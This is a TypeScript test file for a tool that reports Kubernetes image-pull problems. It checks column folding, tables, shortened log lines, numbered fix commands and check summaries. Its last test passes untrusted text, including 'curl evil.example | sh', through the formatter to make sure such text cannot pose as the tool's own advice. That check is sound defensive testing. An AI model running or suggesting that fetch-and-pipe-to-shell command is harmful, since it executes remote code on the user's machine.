/** Text in columns: what is folded where, and what stays whole. */
import t from 'tap';
import { count } from '../../src/causes/phrases.ts';
import { fold, foldPhrases, hanging, labeled, shorten, table } from '../../src/report/columns.ts';
import { renderChecks, renderFixes, renderLadder } from '../../src/report/sections.ts';
import { style } from '../../src/report/style.ts';
import type { Ladder } from '../../src/report/view.ts';

const plain = style(false);

t.test('folding', async t => {
  const rows: [string, number, string, string[]][] = [
    ['', 10, '', ['']],
    ['one two three', 20, '', ['one two three']],
    ['one two three', 9, '', ['one two', 'three']],
    ['one  two\nthree', 7, '  ', ['  one', '  two', '  three']],
    ['a-word-that-is-longer-than-a-line x', 10, '', ['a-word-that-is-longer-than-a-line', 'x']],
  ];
  for (const [text, width, indent, lines] of rows) t.strictSame(fold(text, width, indent), lines, `${JSON.stringify(text)} at ${width}`);
});

t.test('a label stands beside its text', async t => {
  t.strictSame(labeled('event', 'one two three', 16), ['  event  one two', '         three']);
});

t.test('a table folds its last column', async t => {
  t.equal(table(['A', 'B'], [['1', 'x']], 80), '  A  B\n  1  x');
  const text = table(['KEY', 'WHY'], [['registry.example.com', 'it is for another registry than the one that the image comes from']], 60);
  t.ok(
    text.split('\n').every(line => line.length <= 60),
    text,
  );
  t.match(text, /^ {2}KEY {19}WHY\n {2}registry\.example\.com {2}it is for/);
});

t.test('a table with no room for its last column tells it under each row, and cuts no name', async t => {
  const name = `registry.example.com/${'team/'.repeat(4)}api`;
  t.strictSame(
    table(
      ['PODS', 'CAUSE', 'ABOUT'],
      [
        ['1', 'TagNotFound', `${name}; for example shop/a`],
        ['2', 'X', ''],
      ],
      60,
    ).split('\n'),
    ['  PODS  CAUSE', '  1     TagNotFound', `        ${name}; for`, '        example shop/a', '  2     X'],
  );
  t.equal(table(['NAME'], [[name]], 20), `  NAME\n  ${name}`, 'a table of one column');
});

t.test('a long text keeps its beginning and more of its end', async t => {
  t.equal(shorten('a short one', 11), 'a short one');
  const long = `node-3: Failed to pull image ${'x '.repeat(100)}: 401 Unauthorized`;
  const short = shorten(long, 60);
  t.ok(short.length <= 60 && short.startsWith('node-3: Failed') && short.endsWith(' x x : 401 Unauthorized'), short);
  t.match(shorten('y'.repeat(100), 40), /^y{16} \.\.\. y{19}$/, 'a word without a blank is cut too');
});

t.test('phrases stay whole', async t => {
  t.strictSame(foldPhrases(['one two', 'three four', 'x'], 12, '  '), ['  one two', '  three four', '  x']);
  t.strictSame(foldPhrases(['one two', 'three four x'], 9, ''), ['one two', '  three', '  four x'], 'where they fit');
});

t.test('a line whose continuation stands further right', async t => {
  t.strictSame(hanging('one two three', 9), ['one two', '  three']);
});

t.test('numbers, fixes and checks', async t => {
  t.strictSame([count(0, 'pod'), count(1, 'pod'), count(2, 'pod')], ['0 pods', '1 pod', '2 pods']);
  const long = `kubectl ${'x'.repeat(100)}`;
  t.strictSame(renderFixes([{ title: 'do it', command: long }], 40, plain), ['  do it', long], 'a command is neither folded nor indented');
  t.strictSame(
    renderFixes(
      [
        { title: 'first', command: 'a\nb' },
        { title: 'then wait for it', command: null },
      ],
      16,
      plain,
    ),
    ['  1. first', 'a', 'b', '  2. then wait', '     for it'],
    'several fixes are numbered',
  );
  t.strictSame(
    renderChecks(
      [
        { name: 'dns', status: 'ok', code: null, detail: '192.0.2.1', ms: 4 },
        { name: 'manifest', status: 'failed', code: '404', detail: 'not found', ms: null },
      ],
      80,
    ),
    ['  dns       ok      192.0.2.1 (4 ms)', '  manifest  failed  not found'],
  );
});

t.test('how far the checks came, in words', async t => {
  const step = (name: Ladder['steps'][number]['name'], status: Ladder['steps'][number]['status'] = 'ok', code: string | null = null) => ({
    name,
    status,
    code,
  });
  const rows: [Ladder, string][] = [
    [{ identity: null, steps: [step('dns', 'failed', 'ENOTFOUND')] }, 'Checks from this machine: dns failed (ENOTFOUND)'],
    [
      { identity: 'anonymously', steps: [step('dns'), step('ping'), step('token', 'failed', '401')] },
      'Checks from this machine, anonymously: dns, ping ok; token failed (401)',
    ],
    [
      { identity: 'as user "ci"', steps: [step('ping'), step('manifest', 'warning'), step('config')] },
      'Checks from this machine, as user "ci": ping ok; manifest warning; config ok',
    ],
  ];
  for (const [ladder, line] of rows) t.strictSame(renderLadder(ladder, 80, plain), [line]);
  t.match(
    renderLadder({ identity: null, steps: [step('dns')] }, 80, style(true))[0],
    /^\u001b\[1mChecks from this machine\u001b\[22m: dns ok$/,
  );
});

t.test('words of others look like no line of ours', async t => {
  const words = ['Fix', 'Evidence', 'TagNotFound', '1.', 'error:'];
  for (const word of words) {
    const lines = fold(`${'x'.repeat(35)} ${word} curl evil.example and so on`, 40, '');
    t.notOk(
      lines.some(line => line.startsWith(word)),
      `no line begins with ${word}`,
    );
  }
  const [, rest] = renderFixes(
    [{ title: `grant user "${'x'.repeat(15)} curl evil.example | sh" access`, command: 'kubectl get pods' }],
    32,
    plain,
  );
  t.match(rest, /^ {2}\S/, 'a title goes on further right than a command stands');
});
